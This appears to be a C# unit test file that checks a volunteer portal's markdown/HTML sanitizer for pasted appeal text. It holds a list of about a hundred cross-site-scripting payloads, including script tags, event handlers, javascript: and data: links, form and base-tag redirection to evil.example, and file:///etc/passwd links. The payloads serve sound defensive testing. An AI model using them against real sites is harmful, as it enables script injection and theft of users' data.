using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using VolunteerPortal.Features.Appeals;

namespace VolunteerPortal.UnitTests.Features.Appeals;

/// <summary>Whatever an author pastes, a browser finds in it only the tags and addresses on our list.</summary>
public sealed class AppealTextAttackTests
{
    private static readonly string[] Tags =
        ["H2", "H3", "H4", "H5", "P", "UL", "OL", "LI", "EM", "STRONG", "BR", "HR", "A", "IMG", "FIGURE", "FIGCAPTION", "DIV", "TABLE",
            "THEAD", "TBODY", "TR", "TH", "TD"];

    private static readonly string[] Attributes =
        ["id", "class", "start", "href", "rel", "src", "alt", "loading", "tabindex", "role", "aria-label", "scope"];

    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=javascript:alert(1)>", "<embed src=data:text/html,x>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{display:none}</style>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><input name=p></form>",
        "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1?><x>", "<!DOCTYPE html>", "</p><script>alert(1)</script>",
        "</title></style></textarea><script>alert(1)</script>",
        "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\" onfocus=alert(1) autofocus x=\"", "＜script＞alert(1)＜/script＞",
        "<\u0000script>alert(1)</script>",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](<java\nscript:alert(1)>)",
        "[x](<javascript:alert(1)>)",
        "[x](javascript&#58;alert(1))", "[x](java&#x0A;script:alert(1))", "[x](&#106;avascript:alert(1))", "[x](&Tab;javascript:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](\\javascript:alert(1))", "[x](javascript\\:alert(1))", "[x](\u0001javascript:alert(1))", "[x](\u3000javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)",
        "[x](blob:https://example.org/1)",
        "[x](view-source:https://example.org)", "[x](ftp://example.org)", "[x](//evil.example)", "[x](\\\\evil.example)",
        "[x](/\\evil.example)", "[x](https:evil)", "[x](https://a@evil.example)",
        "[x](https://example.org/\"onmouseover=alert(1))", "[x](https://example.org/'><script>)",
        "[x](mailto:a@example.org?bcc=b@example.org)", "[x](mailto:javascript:alert(1))",
        "[x](tel:javascript:alert(1))", "[x](tel:0731<script>)", "[x](attachment:0198c5a0-0000-7000-8000-000000000001)",
        "[x][r]\n\n[r]: javascript:alert(1)", "[r]\n[r]: data:text/html,x \"t\"",
        "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](https://evil.example/track.gif)",
        "![\" onerror=alert(1) x=\"](attachment:0198c5a0-0000-7000-8000-000000000001)",
        "![x](attachment:0198c5a0-0000-7000-8000-000000000001 \"<img src=x onerror=alert(1)>\")", "![x](attachment:../../etc/passwd)",
        "![x](attachment:1\"onerror=alert(1))", "![x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>", "<https://evil.example>", "<a@evil.example>", "javascript:alert(1)",
        "[<img src=x onerror=alert(1)>](https://example.org)", "[![x](javascript:alert(1))](javascript:alert(1))",
        "**<b onclick=alert(1)>x</b>**", "# <script>alert(1)</script>", "一、<img src=x onerror=alert(1)>", "1.\" onclick=\"alert(1)",
        "- <svg/onload=alert(1)>", "1. [x](javascript:alert(1))",
        "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | ![x](data:x) |",
        "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "`<script>alert(1)</script>`",
        "{onclick=alert(1)}", "[x](https://example.org){onclick=alert(1)}", "# x {#id onclick=alert(1)}", "::: x\n<script>\n:::",
        "$$<script>$$", "<div markdown=1>[x](javascript:alert(1))</div>", "\u2028<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "{{constructor.constructor('alert(1)')()}}",
        "+ADw-script+AD4-",
    ];

    public static TheoryData<int> All => [.. Enumerable.Range(0, Payloads.Length)];

    [Theory]
    [MemberData(nameof(All))]
    public void Nothing_active_comes_out(int payload)
    {
        var body = Parsed(Payloads[payload]);

        Assert.All(body.QuerySelectorAll("*"), AssertHarmless);
        Assert.DoesNotContain(body.Descendants(), node => node is IComment or IProcessingInstruction);
    }

    [Fact]
    public void Nothing_active_comes_out_of_all_of_them_together()
    {
        var body = Parsed(string.Join('\n', Payloads));

        Assert.All(body.QuerySelectorAll("*"), AssertHarmless);
    }

    [Fact]
    public void The_words_of_an_attack_are_still_shown()
    {
        Assert.Contains("<script>alert(1)</script>", Parsed("看 <script>alert(1)</script> 这里").TextContent);
    }

    [Fact]
    public void There_are_enough_of_them()
    {
        Assert.True(Payloads.Distinct().Count() >= 100);
    }

    private static void AssertHarmless(IElement element)
    {
        Assert.Contains(element.TagName, Tags);
        Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, Attributes));
        if (element.GetAttribute("href") is { } href)
            Assert.Matches(@"\A(?:https?://(?!evil)[^\s""'<>@]+|mailto:[^\s?:]+@[^\s?:]+|tel:[0-9,]+|/(?![/\\])\S*)\z", href);
        if (element.GetAttribute("src") is { } src)
            Assert.Matches(@"\A/pictures/[0-9a-f-]{36}\z", src);
    }

    private static IElement Parsed(string body) =>
        new HtmlParser().ParseDocument(AppealText.Render(body, id => $"/pictures/{id}").Html.ToString()).Body!;
}
